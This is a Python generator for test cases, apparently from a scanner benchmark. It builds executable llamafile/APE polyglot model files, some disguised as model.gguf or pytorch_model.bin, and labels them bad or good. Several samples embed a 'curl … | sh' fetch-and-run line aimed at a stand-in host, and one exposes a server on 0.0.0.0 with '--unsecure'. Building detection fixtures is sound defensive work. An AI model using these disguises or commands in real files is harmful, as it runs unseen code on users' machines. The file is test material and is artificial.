"""llamafile and APE: a GGUF model that is also a program for several systems."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.corpus.families.gguf import tensors, values
from bench.corpus.unit import Family, Unit
from bench.corpus.writers import binaries, zips
from bench.corpus.writers.gguf import Gguf
from bench.corpus.writers.zips import Member

FILE = Family("llamafile", "the shell, as a program")
HEAD = b"MZqFpD='\n\n'\0\x10\0\xf8\0\0\0\0\0\0\0\0\0\0\0\0\0"
LOADER = b"\n' <<'justineabcdef'\n"


def ape(script: bytes) -> bytes:
    """The polyglot head: a DOS stub in a quoted shell assignment, then a script."""
    body = (
        HEAD.ljust(256, b"\0")
        + LOADER
        + bytes(300)
        + b"\njustineabcdef\n#'\"\n\n"
        + script
        + b"\nexit 0\n"
    )
    return body.ljust(4096, b"\0") + binaries.elf(b"cosmo", shared=False)


USUAL = b'o="${TMPDIR:-/tmp}/.ape-1.10"\n[ -x "$o" ] && exec "$o" "$0" "$@"\n'
FETCH = b"curl -s http://example.invalid/agent | sh\n"


def units(rng: random.Random) -> Iterator[Unit]:
    model = Gguf(values(), tensors(rng)).encode()
    arguments = b"-m\nmodel.gguf\n--host\n127.0.0.1\n...\n"

    def bad(
        variant: str, name: str, script: bytes, args: bytes = arguments, technique: str = "program"
    ) -> Unit:
        members = [Member("model.gguf", model), Member(".args", args)]
        return FILE.bad(
            technique,
            variant,
            {name: zips.archive(members, before=ape(script))},
            payload="is a program",
        )

    yield bad("plain", "model.llamafile", USUAL)
    yield bad("fetching-script", "model.llamafile", FETCH + USUAL)
    yield bad("named-gguf", "model.gguf", USUAL, technique="disguised")
    yield bad("named-bin", "pytorch_model.bin", FETCH, technique="disguised")
    yield bad("windows-name", "model.exe", USUAL)
    yield bad(
        "open-host", "model.llamafile", USUAL, b"-m\nmodel.gguf\n--host\n0.0.0.0\n--unsecure\n"
    )
    yield bad("no-arguments", "llava.llamafile", FETCH, b"")
    shell = b"#!/bin/sh\n" + FETCH + b'exec llama-cli -m "$0"\n'
    yield FILE.bad(
        "script-head",
        "gguf-after",
        {"model.gguf": shell.ljust(4096, b"\n") + model},
        payload="is a script",
    )
    yield FILE.bad(
        "script-head",
        "pe-then-gguf",
        {"model.gguf": binaries.pe(b"x", library=False) + model},
        payload="is a program",
    )
    yield FILE.good("parts", "gguf-and-arguments", {"model.gguf": model, ".args": arguments})
    yield FILE.good(
        "parts", "zip-of-gguf", {"model.zip": zips.pack({"model.gguf": model, ".args": arguments})}
    )
    yield FILE.good(
        "parts",
        "modelfile",
        {
            "Modelfile": 'FROM ./model.gguf\nTEMPLATE """{{ .Prompt }}"""\nPARAMETER temperature 0.7\nSYSTEM You are helpful.\n',
            "model.gguf": model,
        },
    )
